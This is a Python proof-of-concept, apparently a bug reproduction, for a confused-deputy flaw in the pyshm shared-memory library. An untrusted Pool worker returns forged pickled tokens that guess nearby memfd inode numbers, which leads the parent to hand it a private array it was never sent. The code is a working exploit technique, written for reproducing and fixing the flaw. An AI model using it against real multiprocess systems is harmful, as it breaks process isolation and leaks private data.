"""A Pool worker that was sent only `pub` returns a forged token (no secret) naming another
array of the parent, `secret`. The parent's result is then `secret` itself (no secret was
checked), and when the parent sends that "result" back (a pipeline's next stage), the worker
gets the fd of memory it was never sent.

Run: python repro/forged_token_confused_deputy.py  -> prints LEAKED if the worker read it."""
import multiprocessing as mp
import numpy as np
import pyshm
from pyshm import _channel, reduction

N = 1 << 20  # own memfd each (bigger than a slab)


class Forged:
    def __init__(self, token):
        self.token = token

    def __reduce__(self):
        return reduction.rebuild_ndarray, (None, self.token, (N,), np.dtype(np.uint8), (1,), 0,
                                           True)


def attacker(pub):
    # what the worker learns from what it was sent: pub's memfd key and its sender's address
    (key,) = [k for k in reduction._cache.mappings.keys()]
    (address,) = [a for a in _channel._reached if a != _channel.own_address()]
    guesses = [Forged(((key[0], key[1] + d), address, N, 0, N, False, bytes(16), None))
               for d in range(-2100, 2100) if d]  # inode numbers: sequential, in per-CPU batches of 1024
    return guesses


def consume(arrays):
    return [bytes(a[:8]) for a in arrays]


if __name__ == "__main__":
    mp.set_start_method("spawn")
    secret = pyshm.zeros(N, np.uint8, shared=True)
    secret[:] = ord("S")
    trusted = mp.get_context().Pool(1)  # `secret` goes to a trusted worker only
    trusted.apply(len, (secret,))
    pub = pyshm.zeros(N, np.uint8, shared=True)
    pub[:] = ord("p")
    with mp.get_context().Pool(1) as pool:  # the untrusted worker gets only `pub`
        results = pool.apply(attacker, (pub,))
        hits = [r for r in results if isinstance(r, np.ndarray)
                and r.ctypes.data == secret.ctypes.data]
        print("parent: a 'result' of the worker is the parent's own `secret`:", bool(hits))
        seen = pool.apply(consume, (hits,))  # the next stage of a pipeline
        print("worker read:", seen)
        print("LEAKED" if any(s == b"SSSSSSSS" for s in seen) else "held")
    trusted.close()
